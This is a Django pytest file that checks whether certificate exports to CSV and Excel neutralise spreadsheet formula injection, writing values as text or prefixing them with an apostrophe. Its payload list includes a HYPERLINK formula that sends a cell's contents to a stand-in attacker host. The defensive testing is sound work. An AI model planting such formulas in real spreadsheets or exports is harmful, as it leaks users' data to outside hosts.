"""Issue 12, point 7: CSV and Excel exports write every value as text. A value starting with `=`, `+`, `-`,
`@`, tab or carriage return is never a formula in the reader's spreadsheet (OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from certificates.models import Certificate

pytestmark = pytest.mark.django_db
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def _with_references(world: Any) -> list[Certificate]:
    made = []
    for payload in PAYLOADS:
        coi = world.submitted()
        Certificate.objects.filter(pk=coi.pk).update(national_reference=payload)  # as a careless script stored it
        made.append(coi)
    return made


def test_it_writes_formula_like_values_as_text_in_excel(world: Any, client: Any) -> None:
    _with_references(world)
    client.force_login(world.importer)
    for url in ("/certificates/export.xlsx", "/api/v1/certificates/export.xlsx"):
        response = client.get(url)
        sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
        cells = [row[1] for row in sheet.iter_rows(min_row=2)]
        assert sorted(c.value for c in cells) == sorted(PAYLOADS)  # kept exactly
        assert {c.data_type for c in cells} == {"s"}  # text, not a formula ("f")


def test_it_neutralises_formula_like_values_in_csv(world: Any, client: Any) -> None:
    _with_references(world)
    client.force_login(world.importer)
    for url in ("/certificates/export.csv", "/api/v1/certificates/export.csv"):
        content = b"".join(client.get(url).streaming_content).decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(content)))
        references = sorted(row[1] for row in rows[1:])
        assert references == sorted("'" + p for p in PAYLOADS)
        assert not any(row[1].startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows[1:])
